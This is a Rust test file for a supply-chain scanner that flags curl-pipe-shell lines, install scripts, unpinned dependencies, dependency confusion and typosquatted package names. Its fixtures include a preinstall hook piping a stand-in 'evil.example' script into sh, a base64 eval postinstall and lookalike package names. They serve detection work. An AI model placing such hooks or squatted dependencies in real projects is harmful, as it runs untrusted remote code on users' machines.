//! Supply-chain detector on fixture trees, and the typosquat list.

mod common;

use bulwark_scan::{
    Location, POPULAR_PACKAGES, ScanOptions, damerau_levenshtein, scan_tree, supply_chain_detector,
    typosquat_of,
};

fn found(path: &str, text: &str) -> Vec<(String, u32, u32)> {
    let detector = supply_chain_detector();
    assert!(detector.applies_to(path), "{path}");
    detector
        .scan(path, text)
        .into_iter()
        .map(|f| match f.location {
            Location::File { line, column, .. } => (f.rule_id, line, column),
            _ => unreachable!(),
        })
        .collect()
}

fn ids(found: &[(String, u32, u32)]) -> Vec<&str> {
    found.iter().map(|(id, _, _)| id.as_str()).collect()
}

#[test]
fn package_json_positive() {
    let text = r#"{
  "name": "evil-mcp",
  "scripts": {
    "preinstall": "curl -s https://evil.example/x.sh | sh",
    "postinstall": "node -e \"eval(Buffer.from(process.env.X, 'base64').toString())\"",
    "install": "node-gyp rebuild",
    "build": "tsc"
  },
  "dependencies": {
    "@modelcontextprotcol/sdk": "^1.0.0",
    "left-pad": "*",
    "tool": "github:someone/tool",
    "other": "https://example.com/other-1.0.0.tgz",
    "local": "file:../local",
    "next-thing": "latest",
    "server-filesystem": "^1.0.0"
  },
  "devDependencies": { "opeani": "4.0.0", "alias": "npm:fastmpc@1.0.0" }
}"#;
    let hits = found("package.json", text);
    assert_eq!(
        ids(&hits),
        [
            "BWK-SUPPLY-CURL-PIPE-SHELL",
            "BWK-SUPPLY-INSTALL-SCRIPT",
            "BWK-SUPPLY-INSTALL-SCRIPT",
            "BWK-SUPPLY-TYPOSQUAT",
            "BWK-SUPPLY-UNPINNED-DEPENDENCY",
            "BWK-SUPPLY-UNPINNED-DEPENDENCY",
            "BWK-SUPPLY-UNPINNED-DEPENDENCY",
            "BWK-SUPPLY-UNPINNED-DEPENDENCY",
            "BWK-SUPPLY-UNPINNED-DEPENDENCY",
            "BWK-SUPPLY-DEPENDENCY-CONFUSION",
            "BWK-SUPPLY-TYPOSQUAT",
            "BWK-SUPPLY-TYPOSQUAT",
        ],
        "{hits:#?}"
    );
    // curl | sh points into the script, the typosquat at the key.
    assert_eq!(hits[0], ("BWK-SUPPLY-CURL-PIPE-SHELL".into(), 4, 20));
    assert_eq!(hits[3], ("BWK-SUPPLY-TYPOSQUAT".into(), 10, 6));
}

#[test]
fn package_json_negative() {
    let text = r#"{
  "name": "fine",
  "scripts": {
    "postinstall": "node scripts/setup.js",
    "prepare": "husky install",
    "test": "vitest"
  },
  "dependencies": {
    "@modelcontextprotocol/sdk": "^1.17.0",
    "@modelcontextprotocol/server-gitlab": "2025.4.25",
    "openapi": "1.0.0",
    "zod": "~3.23.8",
    "internal": "workspace:*",
    "pinned": "git+https://github.com/a/b.git#0123456789abcdef0123456789abcdef01234567"
  }
}"#;
    assert!(found("package.json", text).is_empty());
    // Not JSON: nothing, no panic.
    assert!(found("package.json", "{ nope").is_empty());
}

#[test]
fn scripts_dockerfiles_and_workflows() {
    let docker = "FROM python:3.12\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nRUN pip install mcp==1.2.0\n";
    assert_eq!(
        found("Dockerfile", docker),
        [("BWK-SUPPLY-CURL-PIPE-SHELL".to_string(), 2, 5)]
    );
    assert!(found("docker/Dockerfile.dev", "RUN curl -o x https://x\n").is_empty());
    let shell = "#!/usr/bin/env bash\nset -e\nwget -qO- https://get.example.com | sudo bash\n";
    assert_eq!(
        ids(&found("install.sh", shell)),
        ["BWK-SUPPLY-CURL-PIPE-SHELL"]
    );
    let workflow = "jobs:\n  a:\n    steps:\n      - run: curl -fsSL https://x/install | bash\n";
    assert_eq!(
        ids(&found(".github/workflows/ci.yml", workflow)),
        ["BWK-SUPPLY-CURL-PIPE-SHELL"]
    );
    let ps = "iex (iwr https://x/install.ps1 -UseBasicParsing)\n";
    assert_eq!(ids(&found("setup.ps1", ps)), ["BWK-SUPPLY-CURL-PIPE-SHELL"]);
    assert!(!supply_chain_detector().applies_to("src/main.rs"));
    assert!(!supply_chain_detector().applies_to("notes.md"));
}

#[test]
fn requirements_txt() {
    let text = "\
# pinned and fine
mcp==1.9.0
requests>=2
pkg-a @ git+https://github.com/a/pkg-a.git
pkg-b @ git+https://github.com/a/pkg-b.git@main
pkg-c @ git+https://github.com/a/pkg-c.git@0123456789abcdef0123456789abcdef01234567
-e git+ssh://git@github.com/a/pkg-d.git#egg=pkg-d
https://files.example.com/pkg-e-1.0.tar.gz
https://files.example.com/pkg-f-1.0.tar.gz#sha256=0123
pkg-g @ https://files.example.com/pkg-g.whl --hash=sha256:abcd
--extra-index-url https://pypi.internal.example/simple
fastmpc==2.0
anthropic>=0.40
";
    let hits = found("requirements.txt", text);
    assert_eq!(
        hits.iter()
            .map(|(id, line, _)| (id.as_str(), *line))
            .collect::<Vec<_>>(),
        [
            ("BWK-SUPPLY-UNPINNED-DEPENDENCY", 4),
            ("BWK-SUPPLY-UNPINNED-DEPENDENCY", 5),
            ("BWK-SUPPLY-UNPINNED-DEPENDENCY", 7),
            ("BWK-SUPPLY-UNPINNED-DEPENDENCY", 8),
            ("BWK-SUPPLY-DEPENDENCY-CONFUSION", 11),
            ("BWK-SUPPLY-TYPOSQUAT", 12),
        ]
    );
    assert_eq!(hits[0].2, 9);
    assert!(supply_chain_detector().applies_to("requirements-dev.txt"));
    assert!(supply_chain_detector().applies_to("requirements/base.txt"));
}

#[test]
fn pyproject_toml() {
    let text = r#"[build-system]
requires = ["hatchling"]

[project]
name = "demo"
dependencies = [
  "mcp>=1.9",
  "tool @ git+https://github.com/a/tool.git",
  "antrhopic>=0.40",  # a lookalike
  "ok @ git+https://github.com/a/ok.git@0123456789abcdef0123456789abcdef01234567",
]

[project.optional-dependencies]
dev = ["pytest", "fetcher @ https://example.com/fetcher-1.0.tar.gz"]

[tool.poetry.dependencies]
python = "^3.11"
lib = { git = "https://github.com/a/lib.git", branch = "main" }
pinned = { git = "https://github.com/a/pinned.git", rev = "0123456789abcdef0123456789abcdef01234567" }
opeani = "^1.0"

[tool.uv.sources]
thing = { git = "https://github.com/a/thing" }
"#;
    let hits = found("pyproject.toml", text);
    assert_eq!(
        hits.iter()
            .map(|(id, line, _)| (id.as_str(), *line))
            .collect::<Vec<_>>(),
        [
            ("BWK-SUPPLY-UNPINNED-DEPENDENCY", 8),
            ("BWK-SUPPLY-TYPOSQUAT", 9),
            ("BWK-SUPPLY-UNPINNED-DEPENDENCY", 14),
            ("BWK-SUPPLY-UNPINNED-DEPENDENCY", 18),
            ("BWK-SUPPLY-TYPOSQUAT", 20),
            ("BWK-SUPPLY-UNPINNED-DEPENDENCY", 23),
        ],
        "{hits:#?}"
    );
    let fine = "[project]\nname = \"x\"\ndependencies = [\"mcp>=1.9\", \"httpx\"]\n[tool.ruff]\nline-length = 100\n";
    assert!(found("pyproject.toml", fine).is_empty());
}

#[test]
fn typosquat_list() {
    for popular in POPULAR_PACKAGES {
        assert_eq!(typosquat_of(popular), None, "{popular} is itself");
    }
    let squats = [
        ("@modelcontextprotocol/sdk", "@modelcontextprotocl/sdk"),
        ("@modelcontextprotocol/sdk", "@modelcontextprotoco1/sdk"),
        (
            "@modelcontextprotocol/server-filesystem",
            "@modelcontextprotocol-/server-filesystem",
        ),
        (
            "@modelcontextprotocol/server-github",
            "@modelcontextprotocoll/server-github",
        ),
        (
            "@modelcontextprotocol/server-memory",
            "@modelcontexprotocol/server-memory",
        ),
        (
            "@modelcontextprotocol/server-everything",
            "@modelcontextpr0tocol/server-everything",
        ),
        (
            "@modelcontextprotocol/server-fetch",
            "@modelcontextprotocol_/server-fetch",
        ),
        ("mcp-remote", "mcp-remote-"),
        ("mcp-remote", "mcp_remotee"),
        ("fastmcp", "fastmcpp"),
        ("fastmcp", "fsatmcp"),
        ("@anthropic-ai/sdk", "@anthropic-a1/sdk"),
        ("@anthropic-ai/sdk", "@antropic-ai/sdk"),
        ("openai", "openia"),
        ("openai", "0penai"),
        ("anthropic", "anthropc"),
        ("mcp-server-fetch", "mcp-server-fecth"),
    ];
    for (original, squat) in squats {
        assert!(
            (1..=2).contains(&damerau_levenshtein(original, squat)) || squat.starts_with('@'),
            "{squat}"
        );
        assert_eq!(typosquat_of(squat), Some(original), "{squat}");
    }
    for fine in [
        "mcp",
        "mcpo",
        "openapi",
        "express",
        "@modelcontextprotocol/server-slack",
        "@types/node",
        "fastapi",
        "typescript",
    ] {
        assert_eq!(typosquat_of(fine), None, "{fine}");
    }
}

#[test]
fn supply_chain_detector_in_a_tree() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    common::write(root, "package.json", r#"{"dependencies": {"x": "*"}}"#);
    common::write(
        root,
        "node_modules/dep/package.json",
        r#"{"scripts": {"postinstall": "curl https://x | sh"}}"#,
    );
    common::write(root, ".gitignore", "node_modules/\n");
    common::write(
        root,
        "scripts/setup.sh",
        "curl https://x | sh  # bulwark-ignore: BWK-SUPPLY-CURL-PIPE-SHELL\n",
    );
    let report = scan_tree(&ScanOptions::new(root, vec![supply_chain_detector()])).unwrap();
    assert_eq!(common::places(&report), ["package.json:1"]);
}
